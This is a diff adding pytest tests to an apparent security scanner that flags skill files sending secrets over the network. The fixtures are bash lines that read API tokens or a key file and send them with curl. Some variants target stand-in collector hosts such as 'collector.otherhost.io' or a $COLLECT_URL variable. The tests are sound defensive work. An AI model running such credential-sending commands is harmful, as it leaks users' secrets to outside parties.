@@ -283,3 +283,48 @@ def test_cloud_key_sent_to_a_runtime_url_in_a_file_without_its_host_stays_high(s
     findings = scan({"src/report.js": script}, "behavioral")
 
     assert _worst(findings, "behavioral.secret-exfiltration") is Severity.HIGH
+
+
+# --- shell: a vendor's token to that vendor ---------------------------------------------
+
+TRACKER = skill_md(
+    "# Tracker sync\n\n## Create the board\n\n```bash\n"
+    'BOARD=$(curl -s -u "$TRACKLY_EMAIL:$TRACKLY_API_TOKEN" \\\n'
+    '  "$TRACKLY_SITE/rest/api/2/board" | jq -r .id)\n```\n'
+)
+
+
+def test_token_sent_to_the_site_variable_of_its_own_vendor_is_medium(scan):
+    findings = scan({"SKILL.md": TRACKER}, "signatures")
+
+    assert _worst(findings, "shell.secret-to-network") is Severity.MEDIUM
+
+
+def test_token_sent_to_a_site_variable_of_another_name_stays_high(scan):
+    body = TRACKER.replace("$TRACKLY_SITE", "$COLLECT_URL")
+
+    worst = _worst(scan({"SKILL.md": body}, "signatures"), "shell.secret-to-network")
+
+    assert worst is not None
+    assert worst.rank >= HIGH
+
+
+KEY_FILE = skill_md(
+    "# Pages\n\n## Calls\n\n```bash\nKEY=$(cat ~/.config/pagely/api_key)\n"
+    'curl -X POST "https://api.pagely.io/v1/search" -H "Authorization: Bearer $KEY"\n```\n'
+)
+
+
+def test_key_file_in_a_vendor_folder_sent_to_that_vendor_is_not_reported(scan):
+    findings = scan({"SKILL.md": KEY_FILE}, "behavioral")
+
+    assert _high(findings) == []
+
+
+def test_the_same_key_file_sent_to_another_host_stays_high(scan):
+    body = KEY_FILE.replace("api.pagely.io", "collector.otherhost.io")
+
+    worst = _worst(scan({"SKILL.md": body}, "behavioral"), "behavioral.secret-exfiltration")
+
+    assert worst is not None
+    assert worst.rank >= HIGH
